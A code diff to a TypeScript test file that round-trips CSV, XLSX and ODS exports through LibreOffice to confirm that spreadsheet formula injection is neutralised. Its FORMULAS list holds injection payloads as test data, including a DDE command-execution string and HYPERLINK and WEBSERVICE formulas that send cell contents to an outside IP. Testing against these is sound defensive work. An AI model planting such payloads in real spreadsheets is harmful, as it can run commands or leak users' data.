@@ -5,7 +5,7 @@ import { join } from 'node:path'
 import { pathToFileURL } from 'node:url'
 import ExcelJS from 'exceljs'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import { packFile, readCommentsCsv, readCommentsDocx, readCommentsXlsx } from '#engine'
+import { packFile, plainCell, readCommentsCsv, readCommentsDocx, readCommentsXlsx, readCsv, tableXlsx, writeCsv } from '#engine'
 import { commentsXml, editParts, endComment, insertInBookmark, partOf, startComment, trackIn } from './edit-office.ts'
 import { BLOCKS, SMALL_PACK, takeSetting } from './small-pack.ts'
 
@@ -14,13 +14,13 @@ const there = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status =
 if (!there) console.warn('LibreOffice (soffice) is not on this machine: the round trip through it is not tested.')
 
 /** Opens files in LibreOffice and saves them again in a form. */
-function saveAgain(form: string, names: readonly string[]): void {
+function saveAgain(form: string, names: readonly string[], reading: readonly string[] = []): void {
   const out = join(folder, form.split(':')[0] ?? '')
   mkdirSync(out, { recursive: true })
   const profile = pathToFileURL(join(folder, 'profile')).href
   const { status, stderr } = spawnSync(
     'soffice',
-    [`-env:UserInstallation=${profile}`, '--headless', '--convert-to', form, '--outdir', out, ...names.map((name) => join(folder, name))],
+    [`-env:UserInstallation=${profile}`, '--headless', ...reading, '--convert-to', form, '--outdir', out, ...names.map((name) => join(folder, name))],
     {
       encoding: 'utf8',
       timeout: 100_000,
@@ -29,8 +29,32 @@ function saveAgain(form: string, names: readonly string[]): void {
   if (status !== 0) throw new Error(`LibreOffice did not save: ${stderr}`)
 }
 
+/** As the dialogue is answered in which LibreOffice asks how to read such a file: commas, quotation marks, UTF-8. */
+const AS_CSV = ['--infilter=CSV:44,34,76,1']
+
 const DOCUMENT = 'word/document.xml'
 const COMMENT = { text: 'Say how.\nSay when.' }
+
+/** What spreadsheets take for formulas, and what separates cells in other countries. */
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1;1)',
+  '＝1+1',
+  ' =1+1',
+  '\u200b=1+1',
+  "'=1+1",
+  `=cmd|' /C calc'!A0`,
+  '=HYPERLINK("http://198.51.100.1/?"&A1;"Read more")',
+  '=WEBSERVICE("http://198.51.100.1/")',
+  'a";=1+1;"b',
+  'a\n=1+1',
+  ';=1+1',
+  'plain, words',
+]
+/** A table as it leaves the server: every text in a cell of its own, beside one that nobody can mistake. */
+const TABLE = [['Text', 'Other'], ...FORMULAS.map((text) => [text, 'end'])]
 
 /** As Word asks for it: the part, its type, and its relation to the document. */
 const withComments = (bytes: Uint8Array): Uint8Array =>
@@ -76,9 +100,14 @@ describe.skipIf(!there)('through LibreOffice, opened and saved again', { timeout
     // LibreOffice saves the first sheet as CSV.
     workbook.removeWorksheet('How to comment')
     writeFileSync(join(folder, 'sheet.xlsx'), new Uint8Array((await workbook.xlsx.writeBuffer()) as ArrayBuffer))
+    writeFileSync(join(folder, 'table.csv'), writeCsv(TABLE))
+    writeFileSync(join(folder, 'sheets.xlsx'), tableXlsx(TABLE, { title: 'Comments', day: '2026-12-01' }))
     saveAgain('docx', ['form.docx', 'commented.docx'])
-    saveAgain('xlsx', ['sheet.xlsx'])
-    saveAgain('csv:Text - txt - csv (StarCalc):44,34,76,1', ['sheet.xlsx'])
+    saveAgain('xlsx', ['sheet.xlsx', 'sheets.xlsx'])
+    saveAgain('xlsx', ['table.csv'], AS_CSV)
+    saveAgain('csv:Text - txt - csv (StarCalc):44,34,76,1', ['sheet.xlsx', 'sheets.xlsx'])
+    saveAgain('ods', ['sheets.xlsx'])
+    saveAgain('ods', ['table.csv'], AS_CSV)
   }, 200_000)
   afterAll(() => rmSync(folder, { recursive: true, force: true }))
   const saved = (name: string) => new Uint8Array(readFileSync(join(folder, name.slice(name.lastIndexOf('.') + 1), name)))
@@ -108,5 +137,21 @@ describe.skipIf(!there)('through LibreOffice, opened and saved again', { timeout
     expect(csv).toContain("'=1+1 ")
     expect(csv).not.toMatch(/(^|,)"?=/m)
     expect(readCommentsCsv(csv, takeSetting()).taken.map(({ text }) => text)).toEqual(['Said in a sheet.'])
+  })
+  test.each(['table.xlsx', 'sheets.xlsx'])('an export opened and saved as %s has no formula, and its texts are as they were', async (name) => {
+    const workbook = new ExcelJS.Workbook()
+    await workbook.xlsx.load(saved(name) as unknown as ExcelJS.Buffer)
+    const cells: ExcelJS.Cell[] = []
+    for (const sheet of workbook.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
+    expect(cells.filter(({ type }) => type === ExcelJS.ValueType.Formula || type === ExcelJS.ValueType.Hyperlink)).toEqual([])
+    const texts = cells.map(({ text }) => plainCell(text))
+    for (const text of FORMULAS) expect(texts).toContain(text)
+  })
+
+  test('an export as a spreadsheet, saved as CSV or in another form, has no formula either', () => {
+    const csv = new TextDecoder().decode(saved('sheets.csv'))
+    const texts = readCsv(csv)?.map(([text]) => text)
+    for (const text of FORMULAS) expect(texts).toContain(text)
+    for (const name of ['table.ods', 'sheets.ods']) expect(partOf(saved(name), 'content.xml')).not.toContain('table:formula')
   })
 })
